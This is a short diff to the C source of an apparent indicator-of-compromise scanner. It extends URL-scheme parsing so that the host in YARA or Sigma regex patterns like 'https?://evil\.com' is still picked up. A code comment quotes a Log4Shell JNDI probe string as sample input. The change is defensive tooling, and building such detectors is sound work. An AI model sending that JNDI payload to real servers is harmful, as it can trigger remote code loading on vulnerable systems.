@@ -2752,8 +2752,9 @@ local_equals(const struct ioc_scanner *sc, size_t a, size_t j)
 
 /*
  * Past "scheme://" and any "user@" of a URL whose scheme is not one
- * try_url takes (ldap, rmi, smb, ssh, hkp, ...): its host is an indicator all
- * the same, as in a Log4Shell probe's "${jndi:ldap://192.0.2.1:1389/a}".
+ * try_url takes (ldap, rmi, smb, ssh, hkp, ...; a YARA or Sigma rule's
+ * pattern, "https?://"): its host is an indicator all the same, as in
+ * a Log4Shell probe's "${jndi:ldap://192.0.2.1:1389/a}".
  * 0 when the token does not start so.
  */
 static size_t
@@ -2767,6 +2768,8 @@ other_scheme(const struct ioc_scanner *sc, size_t a, size_t b)
 	while (k < b && k - a <= 16 && ((t[k] | 0x20) >= 'a' &&
 	    (t[k] | 0x20) <= 'z'))
 		k++;
+	if (k - a >= 2 && k < b && t[k] == '?')
+		k++;	/* a pattern's "https?://evil\.com" (refanged) */
 	if (k - a < 2 || k + 3 > b || t[k] != ':' || t[k + 1] != '/' ||
 	    t[k + 2] != '/')
 		return 0;
